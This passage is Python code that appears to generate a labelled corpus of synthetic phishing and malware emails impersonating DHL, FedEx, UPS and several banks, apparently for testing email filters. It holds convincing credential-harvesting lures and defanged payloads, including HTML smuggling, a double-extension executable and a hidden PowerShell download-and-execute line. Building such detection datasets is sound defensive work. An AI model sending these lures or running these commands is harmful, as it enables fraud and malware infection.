               f"\tfor <{H}>; {rfc(d, ZoneInfo('America/Sao_Paulo'))}"])


def a_dhl_zip_exe():
    stem = f"b{N}-phish-dhl-zip-exe"
    at = "2025-04-29 07:21:55"
    d = when(at) - timedelta(seconds=5)
    awb = rid(stem + "awb", 10, DIGITS)
    z = files.zip_archive([(f"DHL_AWB_{awb}_Receipt.pdf.exe", files.pe_stub())])
    html = f"""<html><body style="font-family:Frutiger,Arial,sans-serif;font-size:13px;color:#000;">
<div style="background:#ffcc00;padding:12px 18px;"><b style="color:#d40511;font-size:22px;font-style:italic;">DHL</b> <span style="font-size:12px;">EXPRESS</span></div>
<div style="padding:16px 18px;">
<p>Dear Customer,</p>
<p>This is to notify you that your shipment with AWB No. <b>{awb}</b> has arrived at our service centre and is awaiting
clearance. Due to an incorrect delivery address the shipment could not be delivered.</p>
<p>Please check the attached shipping documents / receipt (AWB) and confirm your delivery details.</p>
<table cellpadding="4" style="font-size:12px;border:1px solid #ccc;"><tr><td><b>Waybill</b></td><td>{awb}</td></tr>
<tr><td><b>Origin</b></td><td>Shenzhen - CN</td></tr><tr><td><b>Pieces</b></td><td>1</td></tr><tr><td><b>Weight</b></td><td>1.2 kg</td></tr></table>
<p>Best regards,<br>DHL Express Customer Service</p>
<p style="font-size:10px;color:#777;">Deutsche Post DHL Group &copy; 2025. All rights reserved.</p></div></body></html>
"""
    head = f"""From: {addr("DHL Express", "export@marcotekstil.com.tr")}
To: {P}
Subject: DHL Shipment Notification : AWB {awb}
Date: {rfc(d, ZoneInfo("Europe/Istanbul"))}
Message-ID: <{rid(stem + 'mid', 8)}${rid(stem + 'mid2', 8)}${rid(stem + 'mid3', 8)}@marcotekstil.com.tr>
X-Mailer: Microsoft Outlook 16.0
Thread-Index: A{rid(stem + 'ti', 27, ALNUM)}
Content-Language: en-us
MIME-Version: 1.0
"""
    body = Multi("mixed", f"----=_NextPart_000_0011_01DB{rid(stem + 'np', 4, '0123456789ABCDEF')}.{rid(stem + 'np2', 8, '0123456789ABCDEF')}", [
        Leaf("text/html", html.encode("us-ascii"), "quoted-printable", '; charset="us-ascii"'),
        attachment("application/x-zip-compressed", f"DHL_AWB_{awb}.zip", z)])
    mail(stem, "malware", "DHL 'shipment awaiting clearance, see AWB' notice from a compromised Turkish textile company "
         "mailbox with a zip holding a Windows executable disguised as a PDF receipt (double extension).",
         to=P, at=at, ip="185.87.252.14", rdns="mail.marcotekstil.com.tr", helo="mail.marcotekstil.com.tr",
         mailfrom="export@marcotekstil.com.tr", spf="pass", from_dom="marcotekstil.com.tr", head=head, body=body,
         hops=[f"Received: from DESKTOP-{rid(stem + 'dt', 7, UPNUM)} (unknown [156.146.59.{int(rid(stem + 'cl', 2, DIGITS))}])\n"
               f"\tby mail.marcotekstil.com.tr (Postfix) with ESMTPA id {rid(stem + 'q', 10, UPNUM)}\n\tfor <{P}>; {rfc(d, ZoneInfo('Europe/Istanbul'))}"])


def a_fedex_smuggling():
    stem = f"b{N}-phish-fedex-smuggling"
    at = "2025-08-19 13:40:12"
    d = when(at) - timedelta(seconds=3)
    js = ("var s=WScript.CreateObject(\"WScript.Shell\");\r\n"
          "// inert sample: the command below is never executed by this repository\r\n"
          "var u=\"hxxps://cdn-fdx-docs.com/inv/\"+\"upd.msi\";\r\n"
          "s.Run(\"msiexec /q /i \"+u,0,false);\r\n")
    blob = base64.b64encode(files.zip_archive([("FedEx_Customs_Invoice_" + rid(stem + 'n', 6, DIGITS) + ".js", js.encode())])).decode()
    chunks = [blob[i:i + 100] for i in range(0, len(blob), 100)]
    jsarray = ",\n".join(f'"{c}"' for c in chunks)
    att = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>FedEx Document Viewer</title>
<style>body{{font-family:Arial;background:#f4f4f4;text-align:center;padding-top:80px}}.c{{background:#fff;display:inline-block;padding:40px 60px;border-top:6px solid #4d148c}}</style></head>
<body><div class="c"><b style="color:#4d148c;font-size:30px">Fed</b><b style="color:#ff6200;font-size:30px">Ex</b>
<p>Your document is downloading...</p><p style="font-size:12px;color:#666">If the download does not start, <a href="#" id="r">click here</a>.</p></div>
<script>
var p=[{jsarray}];
function g(){{var b=atob(p.join("")),n=new Uint8Array(b.length);for(var i=0;i<b.length;i++)n[i]=b.charCodeAt(i);
var f=new Blob([n],{{type:"application/octet-stream"}}),a=document.createElement("a");a.href=URL.createObjectURL(f);
a.download="FedEx_Customs_Docs.zip";document.body.appendChild(a);a.click();}}
window.onload=g;document.getElementById("r").onclick=function(e){{e.preventDefault();g();}};
</script></body></html>
"""
    html = page(f"""<tr><td style="padding:18px 24px;"><b style="color:#4d148c;font-size:28px;">Fed</b><b style="color:#ff6200;font-size:28px;">Ex</b></td></tr>
<tr><td style="padding:0 24px 10px 24px;font-size:18px;font-weight:bold;">Customs documentation required</td></tr>
<tr><td style="padding:6px 24px;line-height:21px;">Hello,<br><br>Your international shipment <b>{rid(stem + 'trk', 12, DIGITS)}</b> is held
at customs pending the commercial invoice. Please open the attached document, review the declared value and return it signed
so we can complete clearance.<br><br>Duties and taxes may apply.</td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#777;">&copy; FedEx 1995-2025. This email was sent from an unattended mailbox.</td></tr>""", "FedEx")
    head = f"""From: {addr("FedEx International", "clearance@fedex-shipdocs.com")}
To: {G}
Subject: FedEx: Customs clearance - document required for shipment {rid(stem + 'trk', 12, DIGITS)}
Date: {rfc(d)}
Message-ID: <{rid(stem + 'mid', 20, ALNUM)}@fedex-shipdocs.com>
MIME-Version: 1.0
"""
    body = Multi("mixed", f"=_{rid(stem + 'bd', 32)}", [
        Leaf("text/html", html.encode(), "quoted-printable", "; charset=UTF-8"),
        attachment("text/html", f"FedEx_Invoice_{rid(stem + 'n', 6, DIGITS)}.html", att.encode())])
    mail(stem, "malware", "FedEx customs-clearance notice from a look-alike domain carrying an HTML-smuggling attachment "
         "that rebuilds a zip holding a JScript downloader from an embedded base64 array and saves it on open.",
         to=G, at=at, ip="103.151.125.77", rdns=None, helo="fedex-shipdocs.com", mailfrom="clearance@fedex-shipdocs.com",
         spf="softfail", from_dom="fedex-shipdocs.com", dmarc=("fail", "NONE"), head=head, body=body)


def a_ups_iso():
    stem = f"b{N}-phish-ups-iso"
    at = "2024-07-09 15:08:44"
    d = when(at) - timedelta(seconds=4)
    trk = f"1Z{rid(stem + 't', 6, UPNUM)}{rid(stem + 't2', 10, DIGITS)}"
    lnk = files.lnk_shortcut(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                             "-w hidden -nop -c \"iwr hxxps://ups-docs-cdn.com/a.ps1 | iex\"  # inert sample")
    iso = files.iso_image([(f"UPS_Invoice_{trk}.pdf.lnk", lnk), ("readme.txt", b"UPS shipment documents\r\n")],
                          "UPS_DOCS")
    plain = (f"Dear Customer,\n\nThe delivery of your parcel {trk} was unsuccessful because of an unpaid import charge.\n\n"
             "Please find the invoice attached. Open the file and follow the instructions to reschedule delivery.\n\n"
             "UPS Customer Care\n\n(c) 2024 United Parcel Service of America, Inc.\n")
    head = f"""From: {addr("UPS Quantum View", "notify@ups-quantumview.net")}
To: {A}
Subject: UPS Delivery Notification - Tracking {trk}
Date: {rfc(d, EASTERN)}
Message-ID: <{rid(stem + 'mid', 14, DIGITS)}.{rid(stem + 'mid2', 6, DIGITS)}@ups-quantumview.net>
MIME-Version: 1.0
"""
    body = Multi("mixed", f"--boundary_{rid(stem + 'b', 10, DIGITS)}", [
        Leaf("text/plain", plain.encode(), "7bit", "; charset=us-ascii"),
        attachment("application/x-iso9660-image", f"UPS_Invoice_{trk}.iso", iso)])
    mail(stem, "malware", "UPS 'unpaid import charge' notice from a look-alike Quantum View domain with an ISO disc image "
         "holding a .pdf.lnk shortcut that would run a hidden PowerShell download-and-execute.",
         to=A, at=at, ip="5.252.178.91", rdns="mx1.ups-quantumview.net", helo="mx1.ups-quantumview.net",
         mailfrom="notify@ups-quantumview.net", spf="pass", from_dom="ups-quantumview.net", head=head, body=body,
         tls=False)


def a_chase_bing():
    stem = f"b{N}-phish-chase-bing"
    at = "2025-10-07 14:03:27"
    d = when(at) - timedelta(seconds=3)
    target = f"https://chase-secure-access.com/verify/?sid={rid(stem + 'sid', 16)}"
    enc_t = base64.urlsafe_b64encode(target.encode()).decode().rstrip("=")
    url = (f"https://www.bing.com/ck/a?!&amp;&amp;p={rid(stem + 'p', 64)}JmltdHM9MTc1OTc5NTIwMA&amp;ptn=3&amp;ver=2&amp;hsh=4&amp;"
           f"fclid={rid(stem + 'f1', 8)}-{rid(stem + 'f2', 4)}-{rid(stem + 'f3', 4)}-{rid(stem + 'f4', 4)}-{rid(stem + 'f5', 12)}&amp;u=a1{enc_t}&amp;ntb=1")
    html = page(f"""<tr><td style="padding:20px 28px;border-bottom:3px solid #117aca;"><b style="color:#117aca;font-size:24px;letter-spacing:2px;">CHASE</b></td></tr>
<tr><td style="padding:24px 28px 8px 28px;font-size:19px;color:#1b1b1b;">We've temporarily restricted your account</td></tr>
<tr><td style="padding:8px 28px;line-height:22px;color:#414042;">Dear Chase Customer,<br><br>We noticed a sign-in attempt to
your Chase Online&#8480; account from an unrecognized device (Android, Lagos, NG) on {d.strftime('%m/%d/%Y')}. As a precaution we
have placed a temporary hold on online access and debit card transactions.<br><br>To restore full access, please verify your
identity. This only takes a few minutes.</td></tr>
<tr><td style="padding:14px 28px 24px 28px;">{btn(url, "Verify Your Identity", "#117aca")}</td></tr>
<tr><td style="padding:16px 28px;background:#f4f4f4;font-size:11px;color:#717171;line-height:16px;">Please don't reply to this
automatically generated service email.<br>&copy; 2025 JPMorgan Chase &amp; Co. Member FDIC. Equal Housing Opportunity.</td></tr>""", "Chase")
    head = f"""From: {addr("Chase Online", "no.reply.alerts@chase-customer-service.info")}
To: {G}
Subject: Important: Your Chase account access has been restricted
Date: {rfc(d, EASTERN)}
Message-ID: <{rid(stem + 'mid', 32)}@chase-customer-service.info>
MIME-Version: 1.0
"""
    body = Leaf("text/html", html.encode(), "quoted-printable", "; charset=UTF-8")
    mail(stem, "phishing", "Chase 'account restricted after unrecognised sign-in' lure from a look-alike .info domain whose "
         "button goes through a Bing ck/a click redirect wrapping the base64 phishing URL.",
         to=G, at=at, ip="193.143.1.87", rdns="mail.chase-customer-service.info", helo="mail.chase-customer-service.info",
         mailfrom="bounce@chase-customer-service.info", spf="pass", from_dom="chase-customer-service.info",
         dkims=[("chase-customer-service.info", "mail", "pass")], dmarc=("pass", "NONE"), head=head, body=body)


def a_wellsfargo_square():
    stem = f"b{N}-phish-wellsfargo-square"
    at = "2024-11-05 22:17:49"
    d = when(at) - timedelta(seconds=3)
    url = "https://wf-secure-message-center.square.site/"
    plain = (f"Wells Fargo Online\n\nYou have 1 new secure message\n\nA secure message regarding your account ending in "
             f"{rid(stem + 'acct', 4, DIGITS)} is waiting in your Message Center. Subject: \"Verification of recent debit card "
             f"activity\".\n\nView message: {url}\n\nFor your security, this message will expire in 72 hours.\n\n"
             "Wells Fargo Online Customer Service\n")
    html = page(f"""<tr><td style="background:#d71e28;padding:14px 24px;border-bottom:4px solid #ffcd41;"><b style="color:#fff;font-size:20px;">WELLS FARGO</b></td></tr>
<tr><td style="padding:22px 24px 6px 24px;font-size:18px;">You have 1 new secure message</td></tr>
<tr><td style="padding:6px 24px;line-height:21px;">A secure message regarding your account ending in <b>{rid(stem + 'acct', 4, DIGITS)}</b> is
waiting in your Message Center.<br><br><b>Subject:</b> Verification of recent debit card activity<br><b>Sent:</b> {d.astimezone(EASTERN).strftime('%m/%d/%Y %I:%M %p')} ET</td></tr>
<tr><td style="padding:16px 24px 22px 24px;">{btn(url, "View Secure Message", "#d71e28")}</td></tr>
<tr><td style="padding:14px 24px;background:#f4f0ed;font-size:11px;color:#5a5a5a;">For your security, this message will expire in 72 hours.<br>
&copy; 2024 Wells Fargo. All rights reserved. NMLSR ID 399801</td></tr>""", "Wells Fargo")
    sender = "wells.fargo.msgcenter@aol.com"
    head = f"""From: {addr("Wells Fargo Online", sender)}
To: {A}
Subject: You have a new Secure Message
MIME-Version: 1.0
Date: {rfc(d)}
Message-ID: <{rid(stem + 'mid', 10, DIGITS)}.{rid(stem + 'mid2', 7, DIGITS)}.{int(d.timestamp()) * 1000 + 513}@mail.yahoo.com>
References: <{rid(stem + 'mid', 10, DIGITS)}.{rid(stem + 'mid2', 7, DIGITS)}.{int(d.timestamp()) * 1000 + 513}.ref@mail.yahoo.com>
X-Mailer: WebService/1.1.22806 AolMailNorrin
"""
    body = Multi("alternative", f"----=_Part_{rid(stem + 'b1', 7, DIGITS)}_{rid(stem + 'b2', 9, DIGITS)}.{int(d.timestamp()) * 1000 + 511}",
                 [Leaf("text/plain", plain.encode(), "7bit", "; charset=UTF-8"),
                  Leaf("text/html", html.encode(), "quoted-printable", "; charset=UTF-8")])
    mail(stem, "phishing", "Wells Fargo 'new secure message' lure sent from a hijacked AOL account (AOL to AOL, passing "
         "DKIM/DMARC for aol.com), linking to a Square Online site hosting the credential form.",
         to=A, at=at, ip="74.6.133.221", rdns="sonic312-13.consmr.mail.bf2.yahoo.com", helo="sonic312-13.consmr.mail.bf2.yahoo.com",
         mailfrom=sender, spf="pass", from_dom="aol.com", dkims=[("aol.com", "a2048", "pass")], dmarc=("pass", "REJECT"),
         head=head, body=body,
         sign=[("aol.com", "a2048", {"headers": "Date:From:To:Subject:References:From:Subject:Reply-To"})],
         hops=[f"Received: by hermes--production-bf1-{rid(stem + 'he', 10, 'abcdef0123456789')}-{rid(stem + 'he2', 5, 'abcdefghijklmnopqrstuvwxyz')} "
               f"(Yahoo Inc. Hermes SMTP Server) with ESMTPA ID {rid(stem + 'hid', 32)};\n          {rfc(d)}"])


def a_bofa_shortener():
    stem = f"b{N}-phish-bofa-shortener"
    at = "2025-03-03 23:46:10"
    d = when(at) - timedelta(seconds=2)
    url = f"https://t.ly/{rid(stem + 'tly', 5, ALNUM)}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="580" cellpadding="0" cellspacing="0" style="font-family:Arial,sans-serif;border:1px solid #d4d4d4;">
<tr><td style="padding:16px 22px;border-bottom:2px solid #012169;"><b style="color:#012169;font-size:19px;">BANK OF AMERICA</b> <span style="color:#e31837;font-size:19px;">&#9873;</span></td></tr>
<tr><td style="padding:22px;font-size:15px;color:#333;line-height:22px;"><b>Unusual Sign-In Activity</b><br><br>
We detected an unusual sign-in to your Online Banking from a new device:<br><br>
Device: Windows 11 - Edge<br>Location: Bucharest, Romania<br>Time: {d.astimezone(EASTERN).strftime('%B %d, %Y at %I:%M %p')} ET<br><br>
If this was not you, your account may be compromised. Please review this activity and secure your account now.</td></tr>
<tr><td style="padding:0 22px 22px 22px;"><a href="{url}" style="background:#0052c2;color:#fff;padding:11px 24px;text-decoration:none;border-radius:3px;">Review Activity</a></td></tr>
<tr><td style="padding:14px 22px;font-size:11px;color:#666;background:#f6f6f6;">Bank of America, N.A. Member FDIC. Equal Housing Lender &copy; 2025 Bank of America Corporation.</td></tr>
</table></td></tr></table></body></html>
"""
    head = f"""Date: {rfc(d)}
From: {addr("BofA Alert", "alert@boa-onlinesecurity.com")}
To: {Y}
Subject: Unusual sign-in activity detected on your account
Message-ID: <{rid(stem + 'mid', 40, ALNUM)}@boa-onlinesecurity.com>
MIME-Version: 1.0
"""
    body = Leaf("text/html", html.encode(), "base64", "; charset=utf-8")
    mail(stem, "phishing", "Bank of America 'unusual sign-in from Bucharest' alert from a look-alike domain with no DMARC, "
         "its only link a t.ly short URL hiding the credential page.",
         to=Y, at=at, ip="45.135.232.109", rdns=None, helo="boa-onlinesecurity.com", mailfrom="alert@boa-onlinesecurity.com",
         spf="pass", from_dom="boa-onlinesecurity.com", head=head, body=body)


def a_capitalone_qr_pdf():
    stem = f"b{N}-phish-capitalone-qr-pdf"
    at = "2025-05-06 12:12:36"
    d = when(at) - timedelta(seconds=4)
    tenant = "mapleridgeisd.org"
    ip, host, hops = m365_out(stem, tenant, d)
    target = f"https://capone-verify.{rid(stem + 'sub', 6, 'abcdefghijklmnopqrstuvwxyz')}.workers.dev/?u={b64email(C)}"
    pdf = qr_pdf(["Capital One - Card Security Notice", "", f"Reference: CO-{rid(stem + 'ref', 8, DIGITS)}",
                  "We were unable to verify recent activity on your Capital One card.",
                  "Your card has been temporarily locked to protect you from fraud.", "",
                  "Scan the QR code below with your phone camera to confirm your",
                  "identity and unlock your card. This request expires in 24 hours."], target, "Capital One Notice")
    plain = ("Hello,\r\n\r\nPlease see the attached secure notice regarding your Capital One card. Action is required within "
             "24 hours.\r\n\r\nCapital One Card Services\r\n")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head><body dir="ltr">'
            '<div style="font-family:Aptos,Calibri,sans-serif;font-size:12pt;">Hello,<br><br>Please see the attached secure notice '
            'regarding your Capital One card. Action is required within 24 hours.<br><br>Capital One Card Services</div></body></html>\n')
    boundary = outlook_boundary(stem, "004")
    body = Multi("mixed", boundary, [
        Multi("alternative", boundary.replace("_004_", "_000_"), [
            Leaf("text/plain", plain.encode(), "quoted-printable", '; charset="iso-8859-1"'),
            Leaf("text/html", html.encode(), "quoted-printable", '; charset="iso-8859-1"')]),
        attachment("application/pdf", f"CapitalOne_Secure_Notice_{rid(stem + 'ref', 8, DIGITS)}.pdf", pdf)])
    head = f"""From: {addr("Capital One Card Services", "dwalsh@" + tenant)}
To: {addr("", C)}
Subject: Card Locked - Security Verification Required (Ref CO-{rid(stem + 'ref', 8, DIGITS)})
Thread-Topic: Card Locked - Security Verification Required
Thread-Index: A{rid(stem + 'ti', 29, ALNUM)}==
Date: {rfc(d)}
Message-ID: {outlook_msgid(stem)}
Accept-Language: en-US
Content-Language: en-US
{m365_tail(stem, tenant, d).replace('X-MS-Has-Attach: ', 'X-MS-Has-Attach: yes', 1)}
MIME-Version: 1.0
"""
    mail(stem, "phishing", "Capital One 'card locked' notice from a compromised US school-district Microsoft 365 mailbox with "
         "a PDF whose QR code points to a Cloudflare Workers credential page (quishing, no clickable link in the mail).",
         to=C, at=at, ip=ip, rdns=host, helo=host, mailfrom="dwalsh@" + tenant, spf="pass", from_dom=tenant,
         dkims=[(tenant, "selector1", "pass")], dmarc=("pass", "QUARANTINE"), head=head, body=body, hops=hops,
         sign=[(tenant, "selector1", {"headers": "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"})])


def a_amex_mailgun():
    stem = f"b{N}-phish-amex-mailgun"
    at = "2025-06-24 16:25:03"
    d = when(at) - timedelta(seconds=2)
    dom = "amex-cardmember-services.com"
    url = f"https://email.mg.{dom}/c/{rid(stem + 'mgc', 180, ALNUM + '_-')}"
    html = page(f"""<tr><td style="background:#006fcf;padding:18px 26px;"><b style="color:#fff;font-size:18px;letter-spacing:1px;">AMERICAN EXPRESS</b></td></tr>
<tr><td style="padding:24px 26px 6px 26px;font-size:20px;color:#00175a;">Please verify your Card details</td></tr>
<tr><td style="padding:6px 26px;line-height:22px;color:#333;">Dear Card Member,<br><br>As part of our ongoing security measures,
we need you to confirm the details of your American Express&reg; Card. Until this is completed, some features of your
account, including online purchases, may be limited.</td></tr>
<tr><td style="padding:16px 26px 24px 26px;">{btn(url, "Verify Now", "#006fcf")}</td></tr>
<tr><td style="padding:16px 26px;background:#f7f8f9;font-size:11px;color:#53565a;line-height:16px;">Account Ending: {rid(stem + 'end', 5, DIGITS)}<br>
This email was sent to {G}.<br>&copy; 2025 American Express. All rights reserved.</td></tr>
<tr><td><img width="1" height="1" alt="" src="https://email.mg.{dom}/o/{rid(stem + 'mgo', 120, ALNUM + '_-')}"></td></tr>""", "American Express")
    plain = (f"AMERICAN EXPRESS\n\nDear Card Member,\n\nAs part of our ongoing security measures, we need you to confirm the "
             f"details of your American Express Card.\n\nVerify Now: {url}\n\nAccount Ending: {rid(stem + 'end', 5, DIGITS)}\n")
    head = f"""Mime-Version: 1.0
Subject: Action Required: Verify your Card details
From: {addr("American Express", "americanexpress@" + dom)}
To: {G}
Date: {rfc(d)}
Message-Id: <{d.strftime('%Y%m%d%H%M%S')}.{rid(stem + 'mid', 16)}@mg.{dom}>
X-Mailgun-Tag: cardverify
X-Mailgun-Variables: {{"campaign": "q2-{rid(stem + 'camp', 4, DIGITS)}"}}
X-Mailgun-Sid: WyI{rid(stem + 'sid', 40, ALNUM)}In0=
"""
    body = Multi("alternative", rid(stem + "bnd", 64), [
        Leaf("text/plain", plain.encode(), "quoted-printable", '; charset="ascii"'),
        Leaf("text/html", html.encode(), "quoted-printable", '; charset="ascii"')])
    mail(stem, "phishing", "American Express 'verify your card details' lure sent through Mailgun from a look-alike domain "
         "(SPF/DKIM/DMARC aligned), the button wrapped in Mailgun click tracking that forwards to the phishing site.",
         to=G, at=at, ip="159.135.228.12", rdns="m228-12.mailgun.net", helo="m228-12.mailgun.net",
         mailfrom=f"bounce+{rid(stem + 'b', 6)}.{rid(stem + 'b2', 6)}-{G.replace('@', '=')}@mg.{dom}", spf="pass",
         from_dom=dom, dkims=[(dom, "krs", "pass"), ("mailgun.org", "mailo", "pass")], dmarc=("pass", "NONE"),
         head=head, body=body,
         sign=[(dom, "krs", {"headers": "Content-Transfer-Encoding: Content-Type: Mime-Version: Subject: Subject: From: From: To: To:\n\t Message-Id: Date: Sender: Sender"}),
               ("mailgun.org", "mailo", {"headers": "Content-Transfer-Encoding: Content-Type: Mime-Version: Subject: From: To: Message-Id: Date: Sender"})])


def a_citi_doubleclick():
    stem = f"b{N}-phish-citi-doubleclick"
    at = "2025-01-09 03:30:41"
    d = when(at) - timedelta(seconds=3)
    target = f"https://citi-statement-center.com/login/?ref={rid(stem + 'ref', 10)}"
    url = (f"https://ad.doubleclick.net/ddm/trackclk/N{rid(stem + 'n', 7, DIGITS)}.{rid(stem + 'n2', 7, DIGITS)}CITI/"
           f"B{rid(stem + 'b', 8, DIGITS)}.{rid(stem + 'b2', 9, DIGITS)};dc_trk_aid={rid(stem + 'aid', 9, DIGITS)};"
           f"dc_trk_cid={rid(stem + 'cid', 9, DIGITS)};dc_lat=;dc_rdid=;tag_for_child_directed_treatment=;tfua=;ltd=?{target}")
    html = page(f"""<tr><td style="padding:18px 26px;border-bottom:1px solid #ddd;"><b style="color:#003b70;font-size:26px;">citi</b><span style="color:#db2828;font-size:22px;">&#8978;</span></td></tr>
<tr><td style="padding:22px 26px 4px 26px;font-size:18px;color:#003b70;">Your statement is ready to view</td></tr>
<tr><td style="padding:6px 26px;line-height:22px;">Dear Valued Customer,<br><br>Your latest Citi&reg; credit card statement is now available online.
However, we were unable to process your last automatic payment. To avoid a late fee of $41.00, please sign on and review your
statement and payment details.</td></tr>
<tr><td style="padding:8px 26px;"><table cellpadding="6" style="font-size:13px;border:1px solid #e3e3e3;width:100%;">
<tr><td>Statement Balance</td><td align="right"><b>$2,184.62</b></td></tr><tr><td>Minimum Payment Due</td><td align="right">$41.00</td></tr>
<tr><td>Payment Due Date</td><td align="right">{(d + timedelta(days=3)).strftime('%m/%d/%Y')}</td></tr></table></td></tr>
<tr><td style="padding:16px 26px 24px 26px;">{btn(url, "View Statement", "#056dae")}</td></tr>
<tr><td style="padding:14px 26px;background:#f2f2f2;font-size:11px;color:#666;">&copy; 2025 Citigroup Inc. Citibank, N.A. Member FDIC</td></tr>""", "Citi")
    head = f"""From: {addr("Citi Cards", "statements@citi-cardalerts.net")}
To: {A}
Subject: Your Citi card statement is ready - payment issue
Date: {rfc(d)}
Message-ID: <{rid(stem + 'mid', 24)}@citi-cardalerts.net>
MIME-Version: 1.0
"""
    body = Leaf("text/html", html.encode(), "quoted-printable", "; charset=utf-8")
    mail(stem, "phishing", "Citi 'statement ready, automatic payment failed' lure from a look-alike domain whose button is a "
         "DoubleClick Campaign Manager trackclk redirect ending in the phishing URL.",
         to=A, at=at, ip="80.66.83.145", rdns="mail.citi-cardalerts.net", helo="mail.citi-cardalerts.net",
         mailfrom="statements@citi-cardalerts.net", spf="pass", from_dom="citi-cardalerts.net",
         dkims=[("citi-cardalerts.net", "s1", "pass")], head=head, body=body)


def a_barclays_wix():
    stem = f"b{N}-phish-barclays-wix"
    at = "2024-10-01 08:49:13"
    d = when(at) - timedelta(seconds=4)
    url = "https://barclaysonlinesupport0.wixsite.com/payee-review"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<div style="font-family:Arial,sans-serif;max-width:560px;color:#333;">
<div style="background:#00395d;padding:14px 20px;"><span style="color:#00aeef;font-size:22px;font-weight:bold;">BARCLAYS</span></div>
<div style="padding:18px 20px;font-size:14px;line-height:21px;">
<p>Dear Customer,</p>
<p>A new payee was added to your account on {d.astimezone(LONDON).strftime('%d/%m/%Y at %H:%M')}:</p>
<p style="background:#f2f5f7;padding:10px;">Payee name: <b>K OYELARAN</b><br>Sort code: 04-00-75<br>Account: ****8812</p>
<p>If you did not add this payee, please cancel it immediately to protect your money.</p>
<p><a href="{url}" style="background:#007eb6;color:#fff;padding:10px 22px;text-decoration:none;">Cancel payee</a></p>
<p>Thank you,<br>Barclays Fraud Prevention</p>
<p style="font-size:11px;color:#777;">Barclays Bank UK PLC. Authorised by the Prudential Regulation Authority and regulated by the Financial Conduct Authority and the Prudential Regulation Authority (Financial Services Register No. 759676). Registered in England. Registered No. 9740322.</p>
</div></div></body></html>
"""
    head = f"""From: {addr("Barclays", "office@thornbury-scouts.org.uk")}
To: {H}
Subject: New payee added to your account
Date: {rfc(d, LONDON)}
Message-ID: <{rid(stem + 'mid', 32)}@thornbury-scouts.org.uk>
X-Mailer: Microsoft Outlook 16.0
MIME-Version: 1.0
"""
    body = Leaf("text/html", html.encode(), "quoted-printable", "; charset=utf-8")
    mail(stem, "phishing", "Barclays 'new payee added - cancel now' alert sent from a compromised Scout group's hosting "
         "mailbox, linking to a Wix site that harvests online-banking credentials.",
         to=H, at=at, ip="77.72.0.133", rdns="uk-lon-cp12.krystal.uk", helo="uk-lon-cp12.krystal.uk",
         mailfrom="office@thornbury-scouts.org.uk", spf="pass", from_dom="thornbury-scouts.org.uk",
         dkims=[("thornbury-scouts.org.uk", "default", "pass")], dmarc=("pass", "NONE"), head=head, body=body,
         hops=[f"Received: from [185.220.101.{int(rid(stem + 'tor', 2, DIGITS))}] (port=38862 helo=[127.0.0.1])\n\tby uk-lon-cp12.krystal.uk with esmtpsa  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384\n"
               f"\t(Exim 4.97.1)\n\t(envelope-from <office@thornbury-scouts.org.uk>)\n\tid 1svY{rid(stem + 'ex', 2, ALNUM)}-00000{rid(stem + 'ex2', 4, ALNUM)}-"
               f"{rid(stem + 'ex3', 4, ALNUM)}\n\tfor {H};\n\t{rfc(d, LONDON)}"])


def a_hsbc_slink():
    stem = f"b{N}-phish-hsbc-slink"
    at = "2025-08-05 09:14:27"
    d = when(at) - timedelta(seconds=3)
    url = f"https://www.linkedin.com/slink?code={rid(stem + 'code', 8, ALNUM)}"
    html = page(f"""<tr><td style="padding:18px 24px;border-bottom:4px solid #db0011;"><b style="font-size:22px;color:#000;">HSBC</b> <span style="color:#db0011;">&#9670;</span><span style="color:#000;">&#9670;</span></td></tr>
<tr><td style="padding:22px 24px 6px 24px;font-size:18px;">Secure Key upgrade required</td></tr>
<tr><td style="padding:6px 24px;line-height:22px;">Dear Customer,<br><br>From <b>{(d + timedelta(days=5)).strftime('%d %B %Y')}</b> your
current Digital Secure Key will no longer be supported. To continue using online and mobile banking without interruption,
you must complete the upgrade to our new authentication system.</td></tr>
<tr><td style="padding:16px 24px 22px 24px;">{btn(url, "Upgrade now", "#db0011")}</td></tr>
<tr><td style="padding:14px 24px;background:#f3f3f3;font-size:11px;color:#555;">HSBC UK Bank plc. Registered in England and
Wales number 09928412. Registered Office: 1 Centenary Square, Birmingham, B1 1HQ.</td></tr>""", "HSBC")
    plain = (f"HSBC\n\nSecure Key upgrade required\n\nDear Customer,\n\nYour current Digital Secure Key will no longer be "
             f"supported. To continue using online banking please upgrade:\n{url}\n\nHSBC UK Bank plc\n")
    dom = "hsbc-uk-notice.com"
    head = f"""From: {addr("HSBC UK", "info@" + dom)}
To: {Y}
Subject: Action needed: upgrade your Digital Secure Key
Date: {rfc(d)}
Message-Id: <{rid(stem + 'mid', 12)}-{rid(stem + 'mid2', 4)}-{rid(stem + 'mid3', 4)}-{rid(stem + 'mid4', 12)}@smtp-relay.mailin.fr>
Mime-Version: 1.0
X-Mailin-EID: {rid(stem + 'eid', 24, ALNUM)}%3D%3D%7E%2F%7E%2F%7E%2F%7E{rid(stem + 'eid2', 20, ALNUM)}
X-Mailin-Client: {rid(stem + 'cl', 7, DIGITS)}
Origin-messageId: <{rid(stem + 'om', 32, ALNUM)}@{dom}>
Feedback-ID: {rid(stem + 'fb', 2, DIGITS)}.{rid(stem + 'fb2', 7, DIGITS)}.{rid(stem + 'fb3', 5, DIGITS)}:Sendinblue
{list_unsub(f"https://{rid(stem + 'u', 6, 'abcdefghijklmnopqrstuvwxyz')}.r.bh.d.sendibt3.com/tr/un/li/{rid(stem + 'ul', 60, ALNUM + '_-')}")}
"""
    body = Multi("alternative", f"----=_Part_{rid(stem + 'b1', 7, DIGITS)}_{rid(stem + 'b2', 9, DIGITS)}.{int(d.timestamp()) * 1000}",
                 [Leaf("text/plain", plain.encode(), "quoted-printable", "; charset=utf-8"),
                  Leaf("text/html", html.encode(), "quoted-printable", "; charset=utf-8")])
    mail(stem, "phishing", "HSBC 'Digital Secure Key upgrade' lure sent through a Brevo (Sendinblue) account on a look-alike "
